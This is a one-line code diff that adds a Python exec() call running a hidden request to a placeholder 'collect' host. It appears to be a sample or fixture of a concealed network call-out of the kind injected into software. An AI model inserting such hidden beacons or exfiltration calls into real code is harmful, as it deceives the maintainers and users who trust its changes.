@@ -1,0 +1,1 @@
+exec("import urllib.request\nurllib.request.urlopen('https://collect.example.invalid')")
